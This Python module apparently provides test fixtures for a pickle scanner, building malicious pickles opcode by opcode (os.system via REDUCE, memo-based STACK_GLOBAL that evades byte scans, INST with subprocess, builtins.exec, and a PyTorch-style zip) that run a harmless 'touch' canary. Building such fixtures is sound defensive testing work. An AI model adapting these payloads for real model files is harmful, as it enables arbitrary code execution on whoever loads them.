"""Hostile pickles built opcode by opcode. Each would run `touch MARKER` if really unpickled."""

from __future__ import annotations

import struct


def _uni(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def touch_command(marker: str) -> str:
    return f"touch {marker}"


def reduce_os_system(marker: str) -> bytes:
    """GLOBAL os system + REDUCE (the classic, protocol 2)."""
    cmd = touch_command(marker).encode()
    return (b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"\x85R.")


def stack_global_posix(marker: str) -> bytes:
    """STACK_GLOBAL with operands from the memo (what picklescan-style byte scans miss)."""
    return (b"\x80\x04" + _uni("posix") + b"\x94" + _uni("system") + b"\x94"
            + b"h\x00h\x01\x93" + _uni(touch_command(marker)) + b"\x85R.")


def inst_subprocess(marker: str) -> bytes:
    """Protocol 0 INST: `subprocess.call(['touch', marker])` via `(lp0 ... isubprocess\\ncall`."""
    return (b"(" + b"(lp0\nV" + b"touch\np1\naV" + marker.encode() + b"\np2\na"
            + b"isubprocess\ncall\n.")


def obj_builtins_exec(marker: str) -> bytes:
    """OBJ with builtins.exec and Python source."""
    src = f"open({marker!r}, 'w').close()"
    return b"\x80\x02(cbuiltins\nexec\n" + _uni(src) + b"o."


def build_setstate(marker: str) -> bytes:
    """NEWOBJ of an object, then BUILD whose state would reach __setstate__ (here: os.system)."""
    return (b"\x80\x04" + _uni("os") + _uni("system") + b"\x93" + b")\x81"
            + _uni(touch_command(marker)) + b"b.")


def torch_zip_with_payload(path: str, marker: str) -> None:
    """A PyTorch-style zip whose data.pkl carries the os.system payload."""
    import zipfile
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", reduce_os_system(marker))
        zf.writestr("archive/version", "3\n")


ALL = [reduce_os_system, stack_global_posix, inst_subprocess, obj_builtins_exec, build_setstate]
